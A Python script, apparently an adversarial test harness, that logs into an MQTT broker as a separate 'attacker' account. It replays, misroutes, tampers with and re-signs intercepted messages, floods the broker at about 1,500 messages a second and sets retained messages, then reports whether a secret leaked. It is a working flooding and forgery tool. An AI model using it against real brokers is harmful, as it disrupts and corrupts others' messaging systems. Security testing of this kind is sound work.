"""Attacks every run on an MQTT broker from another account, with the standard library alone.

Its argument is a text that it looks for, the first line of standard input the URL of the broker, with an account.

Reads all notes, repeats them, changes them, moves them to other topics and runs, signs them with a key of its own, with
every kind and command, and retains them: about 1,500 a second, until another line arrives. Then it removes
what it retained and prints what it did as JSON.
"""

import hmac
import itertools
import json
import secrets
import socket
import struct
import sys
import threading
import time
from urllib.parse import unquote, urlsplit

COMMANDS = (*range(20), 21, 30, 40, 41, 42, 50, 51, 60, 61, 70)
PER_ROUND, ROUND_S = 15, 0.01
OWN_KEY = secrets.token_bytes(32)


def packet(kind, body):
    length, left = b"", len(body)
    while True:
        left, low = divmod(left, 128)
        length += bytes([low | 128 if left else low])
        if not left:
            return bytes([kind]) + length + body


def text(value):
    content = value.encode()
    return struct.pack(">H", len(content)) + content


def publish(topic, payload, retain=False):
    return packet(0x31 if retain else 0x30, text(topic) + payload)


class Listener(threading.Thread):
    """What passes through the broker, except for our own."""

    def __init__(self, stream):
        super().__init__(daemon=True)
        self.stream, self.notes, self.seen = stream, [], set()

    def run(self):
        while True:
            kind = self.stream.read(1)
            if not kind:
                return
            length, shift = 0, 0
            while True:
                (octet,) = self.stream.read(1)
                length |= (octet & 127) << shift
                shift += 7
                if octet < 128:
                    break
            body = self.stream.read(length)
            if kind[0] >> 4 == 3:
                size = struct.unpack(">H", body[:2])[0]
                topic, payload = body[2 : 2 + size].decode(), body[2 + size :]
                if payload and payload not in self.seen:
                    self.seen.add(payload)
                    self.notes.append((topic, payload))


def forgeries(listener):
    """Topic, content and whether to retain it, forever: the latest notes in every wrong way."""
    numbers = itertools.cycle(COMMANDS)
    for turn in itertools.count():
        notes = listener.notes[-200:]
        topic, payload = notes[turn % len(notes)]
        body, tag = payload[:-32], payload[-32:]
        other = notes[(turn * 7 + 3) % len(notes)][0]
        yield topic, payload, turn % 50 == 0  # repeated, sometimes retained
        yield other, payload, False
        yield topic, bytes([payload[0], payload[1] ^ 1]) + payload[2:], False
        command = next(numbers)
        for kind in (0, 1, 2):
            forged = body[:2] + bytes([kind, command]) + body[4:]
            yield topic, forged + tag, False
            yield topic, forged + hmac.digest(OWN_KEY, topic.encode() + b"\0" + forged, "sha256"), False


def main(url, mark):
    connection = socket.create_connection((url.hostname, url.port), 20)
    connection.settimeout(None)
    account = [text(unquote(part)) for part in (url.username, url.password) if part is not None]
    flags = {0: 2, 1: 0x82, 2: 0xC2}[len(account)]
    name = text(f"attacker-{secrets.token_hex(4)}")
    connection.sendall(packet(0x10, text("MQTT") + bytes([4, flags, 0, 0]) + name + b"".join(account)))
    connection.sendall(packet(0x82, struct.pack(">H", 1) + text("/mpt/#") + bytes([0])))
    listener = Listener(connection.makefile("rb"))
    listener.start()
    over = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.readline(), over.set()), daemon=True).start()
    print("ready", flush=True)
    while not listener.notes and not over.wait(0.05):
        pass
    retained, sent, begun = set(), 0, time.monotonic()
    wrong = forgeries(listener)
    while listener.notes and not over.is_set():
        due = int((time.monotonic() - begun) / ROUND_S) * PER_ROUND
        for _ in range(max(due - sent, 0)):
            topic, payload, retain = next(wrong)
            listener.seen.add(payload)
            if retain:
                retained.add(topic)
            connection.sendall(publish(topic, payload, retain))
            sent += 1
        time.sleep(ROUND_S)
    took = time.monotonic() - begun
    for topic in retained:
        connection.sendall(publish(topic, b"", retain=True))
    heard = [payload for _, payload in listener.notes]
    leaked = any(mark.encode() in payload for payload in heard)
    readable = any(b"queue://" in payload for payload in heard)
    done = {"notes": len(heard), "sent": sent, "seconds": took, "leaked": leaked, "readable": readable}
    print(json.dumps(done), flush=True)
    connection.sendall(packet(0xE0, b""))


main(urlsplit(sys.stdin.readline().strip()), sys.argv[1])
